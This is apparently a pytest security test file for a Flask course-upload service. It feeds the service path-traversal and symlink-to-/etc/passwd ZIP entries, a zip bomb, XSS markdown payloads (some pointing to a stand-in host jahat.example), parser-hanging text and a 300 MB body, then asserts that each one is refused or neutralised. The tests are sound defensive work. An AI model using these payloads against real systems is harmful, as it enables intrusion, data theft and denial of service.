"""Hostile packages through the author's form, and a body of 300 MB."""

from __future__ import annotations

import io
import os
import re
import socket
import stat
import time
import zipfile
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import func, select

from elearning.courses.model import Course, CourseVersion
from elearning.kernel.actor import Actor
from tests.faults.conftest import House
from tests.faults.test_disk_full import drafts, send_package
from tests.support.client import PageClient

MEGABYTE = 1_000_000
HEAD = "---\njudul: {}\nringkasan: Uji.\ntingkat: dasar\n---\n\nUji.\n"
LESSON = "---\njudul: Modul\njp: 1\n---\n\n# Isi\n\n{}\n"


def package(**extra: str | bytes) -> dict[str, str | bytes]:
    """A course that would be fine, with these files beside or instead."""
    files: dict[str, str | bytes] = {"jahat/kursus.md": HEAD.format("Jahat"), "jahat/01-modul.md": LESSON.format("Teks.")}
    return {**files, **extra}


def zipped(files: dict[str, str | bytes], links: dict[str, str] | None = None) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
        for name, leads_to in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, leads_to)
    return target.getvalue()


def published(app: Flask) -> tuple[int, int]:
    with app.extensions["work_factory"].open(Actor.system()) as work:
        courses = work.session.scalar(select(func.count()).select_from(Course)) or 0
        return courses, work.session.scalar(select(func.count()).select_from(CourseVersion)) or 0


ARCHIVES = {
    "climbing out": (zipped(package(**{"jahat/../../lolos.md": "x"})), "keluar dari folder kursus"),
    "an absolute address": (zipped(package(**{"/tmp/lolos.md": "x"})), "keluar dari folder kursus"),
    "a Windows address": (zipped(package(**{"C:\\lolos.md": "x"})), "keluar dari folder kursus"),
    "a link to a secret": (zipped(package(), {"jahat/aset/kunci.png": "/etc/passwd"}), "tautan di dalam ZIP tidak diikuti"),
    "a bomb": (zipped(package(**{"jahat/aset/bom.png": b"\0" * (40 * MEGABYTE)})), "mengembang lebih dari 100 kali"),
    "too many files": (zipped(package(**{f"jahat/aset/{n}.txt": "" for n in range(1001)})), "paling banyak 1000"),
}


@pytest.mark.parametrize("name", ARCHIVES)
def test_a_hostile_archive_is_named_and_comes_to_nothing(app: Flask, client: PageClient, tmp_path: Path, name: str) -> None:
    content, said = ARCHIVES[name]
    before = published(app)
    outside = set(Path(app.config["STORAGE_DIR"]).parent.iterdir())
    client.sign_in("dewi")

    draft = send_package(client, content).location

    page = client.get_page(draft)
    assert said in page.page.text
    assert "root:" not in page.body
    refused = client.post(f"{draft}/terbitkan")
    assert refused.status in {409, 422}, refused.page.text
    assert published(app) == before
    assert set(Path(app.config["STORAGE_DIR"]).parent.iterdir()) == outside
    assert not list(tmp_path.rglob("lolos*"))
    assert not Path("/tmp/lolos.md").exists()


ATTACKS = (
    "<script>RAHASIA</script>",
    '<img src=x onerror="RAHASIA">',
    "[tekan](javascript:RAHASIA)",
    "[tekan](data:text/html;base64,UkFIQVNJQQ==)",
    '<svg onload="RAHASIA"><script>RAHASIA</script></svg>',
    '<iframe srcdoc="<script>RAHASIA</script>"></iframe>',
    '<form action="https://jahat.example"><input name="password"></form>',
    '<a href="//jahat.example" onclick="RAHASIA">x</a>',
    '<style>body{background:url("https://jahat.example")}</style>',
    '<base href="https://jahat.example/"><meta http-equiv="refresh" content="0;url=https://jahat.example">',
)
DANGEROUS = re.compile(
    r"<(script(?![^>]*\bsrc=\"/static/)|iframe|object|embed|base|style)\b|<meta[^>]+http-equiv|<[^>]+\son\w+\s*="
    r"|<[^>]+=\s*\"?\s*(javascript:|data:text|(https?:)?//jahat\.example)",
    re.IGNORECASE,
)


def test_hostile_markdown_reaches_no_page(client: PageClient) -> None:
    """Refused or made harmless: what an author or a learner is shown holds nothing that runs or leads away."""
    client.sign_in("dewi")
    for attack in ATTACKS:
        draft = send_package(client, zipped(package(**{"jahat/01-modul.md": LESSON.format(f"Awal.\n\n{attack}\n\nAkhir.")})))
        for address in (draft.location, f"{draft.location}/modul"):
            got = client.get(address)
            assert got.status == 200
            body = re.sub(r'<script type="module" src="/static/dist/[^"]+">', "", got.body)
            found = DANGEROUS.search(body)
            assert found is None, f"{attack} in {address}: {body[max(0, found.start() - 80) : found.end() + 80]}"


@pytest.mark.parametrize("text", ["[" * 5000, "> " * 3000 + "x", "*a_" * 4000, "![" * 5000 + "](" * 5000, "`" * 20001])
def test_texts_made_to_hang_are_answered_in_time(client: PageClient, text: str) -> None:
    client.sign_in("dewi")
    began = time.monotonic()

    got = send_package(client, zipped(package(**{"jahat/01-modul.md": LESSON.format(text)})))

    assert got.status == 303
    client.get_page(got.location)
    assert time.monotonic() - began < 15


# --- 300 MB --------------------------------------------------------------------------------------------------------------


def peak_memory(pid: int) -> int:
    """The most memory that a process ever held, in KB."""
    status = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmHWM:\s+(\d+)", status).group(1))  # type: ignore[union-attr] - Linux says so of every process


@pytest.mark.slow
def test_three_hundred_megabytes_are_refused_at_once_and_not_kept(house: House) -> None:
    """Told by its length, a body is refused before it is read, also for strangers; memory stays where it was."""
    from tests.faults.test_kills import children_of, listeners
    from tests.support.server import wait_until

    dewi = house.crowd.persona("dewi")
    house.server.start_web()
    wait_until(lambda: listeners(house.port) == 2)
    assert house.server.web is not None
    processes = children_of(house.server.web.pid)
    for path in ("/penulis/unggah", "/verifikasi/AAAA-AAAA-AAAA-A/berkas", "/masuk"):
        for _ in range(6):  # both processes have answered before
            assert send_body(house.port, path, dewi.cookie, 1000)[0] != 413
        before = {pid: peak_memory(pid) for pid in processes}
        began = time.monotonic()

        status, sent = send_body(house.port, path, dewi.cookie, 300 * MEGABYTE)

        assert status == 413
        assert sent < 100 * MEGABYTE
        assert time.monotonic() - began < 10
        grown = {pid: peak_memory(pid) - before[pid] for pid in processes}
        assert all(kilobytes < 30_000 for kilobytes in grown.values()), grown
    assert drafts(house.crowd.app) == 0


def send_body(port: int, path: str, cookie: str, size: int) -> tuple[int, int]:
    """POST a form of that length in pieces of 64 KB until the answer comes; its status and how much was sent."""
    head = (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nCookie: sesi={cookie}\r\nContent-Length: {size}\r\n"
        "Content-Type: multipart/form-data; boundary=batas\r\nConnection: close\r\n\r\n"
    )
    piece = os.urandom(65536)
    with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
        connection.sendall(head.encode())
        connection.settimeout(0.02)
        sent, answer = 0, b""
        while sent < size and not answer:
            try:
                sent += connection.send(piece[: size - sent])
                answer = connection.recv(4096)
            except TimeoutError:
                continue
            except (BrokenPipeError, ConnectionResetError):
                break
        connection.settimeout(30)
        while b"\r\n\r\n" not in answer:
            more = connection.recv(4096)
            if not more:
                break
            answer += more
    return int(answer.split()[1]), sent
